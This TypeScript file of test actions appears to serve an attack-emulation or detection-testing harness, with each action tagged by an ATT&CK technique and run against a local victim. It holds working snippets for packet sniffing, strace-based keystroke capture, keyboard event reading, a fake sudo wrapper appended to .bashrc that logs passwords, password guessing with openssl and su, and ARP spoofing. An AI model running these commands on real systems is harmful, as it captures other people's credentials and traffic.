import type { Action } from '../../action.ts'
import { sleepingVictim } from '../../loopback-server.ts'

/** Input and traffic of others, and guessed passwords. */
export const interception: readonly Action[] = [
  {
    id: 'packets-python',
    title: 'Packets captured by a Python program',
    technique: 'T1040',
    program: {
      language: 'python',
      text: `import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"pw", ("127.0.0.1", 9))
s.settimeout(2); print("got" if b"pw" in s.recv(999) else "")`,
    },
    run: 'python3 $PROGRAM',
    effect: 'grep -q got $OUT',
  },
  {
    id: 'packets-c',
    title: 'Packets captured by a compiled program',
    technique: 'T1040',
    program: {
      language: 'c',
      text: '#include <arpa/inet.h>\n#include <sys/socket.h>\nint main() { return socket(AF_PACKET, SOCK_RAW, htons(3)) < 0; }',
    },
    run: '$PROGRAM',
  },
  {
    id: 'terminal-traced',
    title: 'Input of a terminal recorded by strace',
    technique: 'T1056.001',
    needs: ['strace'],
    before: sleepingVictim,
    run: 'timeout 1 strace -f -e trace=read -p $(cat /run/victim) -o /tmp/k; :',
    effect: '[ -e /tmp/k ]',
  },
  {
    id: 'terminal-recorded',
    title: 'Session recorded by script',
    technique: 'T1056.001',
    needs: ['script'],
    run: 'script -q -f -c id /var/tmp/.log',
    effect: 'grep -q uid= /var/tmp/.log',
  },
  {
    id: 'keyboard-opened',
    title: 'Events of the keyboard read',
    technique: 'T1056.001',
    before: 'mkdir -p /dev/input; echo x >/dev/input/event0',
    run: 'cat /dev/input/event0 >/tmp/k',
    effect: '[ -s /tmp/k ]',
  },
  {
    id: 'fake-sudo',
    title: 'Command that asks for the password instead of sudo',
    technique: 'T1056',
    as: 'ann',
    run: `echo 'sudo() { read -rsp "[sudo] password: " p; echo "$p" >>/tmp/.p; command sudo "$@"; }' >>~/.bashrc`,
    effect: 'grep -q sudo /home/ann/.bashrc',
  },
  {
    id: 'passwords-guessed',
    title: 'Passwords guessed against a hash by openssl',
    technique: 'T1110.002',
    needs: ['openssl'],
    run: 'for each in a b secret; do [ "$(openssl passwd -6 -salt x $each)" = "$(openssl passwd -6 -salt x secret)" ] && echo found $each; done; :',
    effect: 'grep -q found $OUT',
  },
  {
    id: 'passwords-tried',
    title: 'Passwords tried by su',
    technique: 'T1110.001',
    needs: ['su'],
    as: 'ann',
    run: 'for each in a b c d e f; do echo $each | timeout 5 su root -c id; done; :',
    effect: 'grep -qi "fail\\|password" $OUT',
  },
  {
    id: 'traffic-redirected',
    title: 'Answers for addresses of others sent',
    technique: 'T1557.002',
    program: {
      language: 'python',
      text: `import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("lo", 0))
s.send(b"\\xff" * 6 + b"\\x02\\0\\0\\0\\0\\1" + b"\\x08\\x06\\0\\1\\x08\\0\\6\\4\\0\\2" + b"\\0" * 20)`,
    },
    run: 'python3 $PROGRAM',
  },
]
